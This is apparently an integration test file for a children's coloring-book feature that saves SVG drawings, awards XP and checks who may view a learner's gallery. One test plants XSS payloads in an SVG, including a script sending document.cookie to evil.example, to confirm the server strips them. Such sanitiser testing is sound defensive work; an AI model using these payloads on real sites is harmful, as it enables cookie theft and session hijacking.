import type { RunningGateway } from '@morah/gateway';
import { createTestDatabase, type TestDatabase } from '@morah/db/testing';
import { COLORING_XP_PAGES_PER_DAY, MAX_SVG_BYTES } from '@morah/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerParent, registerStudent, registerTeacherWithClass, TestClient } from './support/http-client';
import { startGateway } from './support/morah-under-test';

let testDb: TestDatabase;
let gateway: RunningGateway;
let teacher: TestClient;
let classCode: string;

beforeAll(async () => {
  testDb = await createTestDatabase();
  gateway = await startGateway({ databaseUrl: testDb.url });
  ({ teacher, classInfo: { joinCode: classCode } } = await registerTeacherWithClass(gateway.url));
});
afterAll(async () => {
  await gateway?.close();
  await testDb?.drop();
});

const drawing = (fill: string, extra = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 400"${extra}><path id="alef-1" d="M10 10L90 90Z" fill="${fill}" stroke="#222"></path></svg>`;

describe('the coloring book', () => {
  it('saves a drawing with 10 XP through the ledger and lists it newest first', async () => {
    const { student, user } = await registerStudent(gateway.url, classCode, 'Tova');
    const first = await student.post('/api/coloring', { letter: 'alef', svgData: drawing('#e53935'), colors: { 'alef-1': '#e53935' } });
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ xpAwarded: 10, xp: 10, level: 1, artwork: { letter: 'alef', colors: { 'alef-1': '#e53935' } } });
    const second = await student.post('/api/coloring', { letter: 'bet', svgData: drawing('#43a047'), colors: {} });
    expect(second.status).toBe(201);

    const list = await student.get(`/api/coloring/${user.id}`);
    expect(list.status).toBe(200);
    expect(list.body.artwork.map((a: { letter: string }) => a.letter)).toEqual(['bet', 'alef']);
    expect(list.body.artwork[1].svgData).toContain('fill="#e53935"');

    const ledger = await testDb.db.selectFrom('xp_events').select(['amount', 'reason']).where('user_id', '=', user.id).where('reason', '=', 'coloring').execute();
    expect(ledger).toEqual([{ amount: 10, reason: 'coloring' }, { amount: 10, reason: 'coloring' }]);
  });

  it('keeps the drawing but strips anything that could run or reach outside', async () => {
    const { student, user } = await registerStudent(gateway.url, classCode);
    const evil = drawing('#8e24aa', ' onload="alert(document.cookie)"').replace(
      '</svg>',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><image href="https://evil.example/t.png"></image><a href="javascript:alert(1)"><text>x</text></a></svg>',
    );
    const saved = await student.post('/api/coloring', { letter: 'gimel', svgData: evil, colors: {} });
    expect(saved.status).toBe(201);
    const stored = (await student.get(`/api/coloring/${user.id}`)).body.artwork[0].svgData as string;
    expect(stored).toContain('fill="#8e24aa"');
    expect(stored).not.toMatch(/onload|script|evil\.example|javascript|<image|<a[\s>]/i);
  });

  it('refuses an unknown letter, bad colours, a drawing over 200 KB and markup that is not a picture, keeping nothing', async () => {
    const { student, user } = await registerStudent(gateway.url, classCode);
    const bad = [
      { letter: 'omega', svgData: drawing('#000000'), colors: {} },
      { letter: 'alef', svgData: drawing('#000000'), colors: { 'alef-1': 'red; background:url(x)' } },
      { letter: 'alef', svgData: drawing('#000000').replace('</svg>', `<desc>${'x'.repeat(MAX_SVG_BYTES)}</desc></svg>`), colors: {} },
      { letter: 'alef', svgData: '<p onclick="alert(1)">not a picture</p>', colors: {} },
      { letter: 'alef', colors: {} },
    ];
    for (const body of bad) {
      const res = await student.post('/api/coloring', body);
      expect(res.status, JSON.stringify(res.body).slice(0, 200)).toBe(400);
      expect(res.body.error.message.length).toBeGreaterThan(10);
    }
    expect((await student.get(`/api/coloring/${user.id}`)).body.artwork).toEqual([]);
    // Refused before anything was stored, so no job was asked to pay for them.
    expect((await student.get('/api/auth/me')).body.user.xp).toBe(0);
  });

  it('pays XP for the first pages of a day only', async () => {
    const { student } = await registerStudent(gateway.url, classCode);
    let paid = 0;
    for (let i = 0; i < COLORING_XP_PAGES_PER_DAY + 2; i++) {
      const res = await student.post('/api/coloring', { letter: 'dalet', svgData: drawing('#fdd835'), colors: {} });
      expect(res.status).toBe(201);
      paid += res.body.xpAwarded;
    }
    expect(paid).toBe(COLORING_XP_PAGES_PER_DAY * 10);
  });

  it('shows a gallery to the learner, their teacher and their parents only', async () => {
    const { student, user } = await registerStudent(gateway.url, classCode, 'Ari');
    await student.post('/api/coloring', { letter: 'hey', svgData: drawing('#29b6f6'), colors: {} });
    const { parent } = await registerParent(gateway.url, user.linkCode);
    const { parent: stranger } = await registerParent(gateway.url);
    const { teacher: otherTeacher } = await registerTeacherWithClass(gateway.url);
    const { student: classmate } = await registerStudent(gateway.url, classCode);

    for (const allowed of [student, teacher, parent]) {
      const res = await allowed.get(`/api/coloring/${user.id}`);
      expect(res.status).toBe(200);
      expect(res.body.artwork).toHaveLength(1);
    }
    for (const refused of [stranger, otherTeacher, classmate]) {
      expect((await refused.get(`/api/coloring/${user.id}`)).status).toBe(404);
    }
    const signedOut = new TestClient(gateway.url);
    expect((await signedOut.get(`/api/coloring/${user.id}`)).status).toBe(401);
    expect((await signedOut.post('/api/coloring', { letter: 'alef', svgData: drawing('#000'), colors: {} })).status).toBe(401);
    expect((await student.get('/api/coloring/not-a-number')).status).toBe(400);
  });
});

describe('coloring counts for badges, challenges and parents', () => {
  it('earns the first coloring badge and the day\u2019s coloring challenge, and shows the parent which letter', async () => {
    const { student, user } = await registerStudent(gateway.url, classCode, 'Lia');
    const { parent } = await registerParent(gateway.url, user.linkCode);
    expect((await student.post('/api/coloring', { letter: 'chet', svgData: drawing('#f06292'), colors: {} })).status).toBe(201);

    await expect
      .poll(async () => (await student.get(`/api/users/${user.id}/badges`)).body.userBadges.map((b: { badge: { name: string } }) => b.badge.name), { timeout: 15_000 })
      .toContain('Challah Chef');
    const dashboard = (await student.get('/api/gamification/dashboard')).body;
    const coloring = dashboard.dailyChallenges.find((c: { type: string }) => c.type === 'coloring_pages');
    expect(coloring.userProgress.currentProgress).toBe(1);

    const child = (await parent.get(`/api/parent/children/${user.id}/dashboard`)).body.dashboard;
    expect(child.recentActivity.map((a: { label: string }) => a.label)).toContain('Colored the letter Chet');
    expect(child.favouriteTopics).toContainEqual(expect.objectContaining({ source: 'activity', label: 'Coloring', count: 1, minutes: 2 }));
  });
});
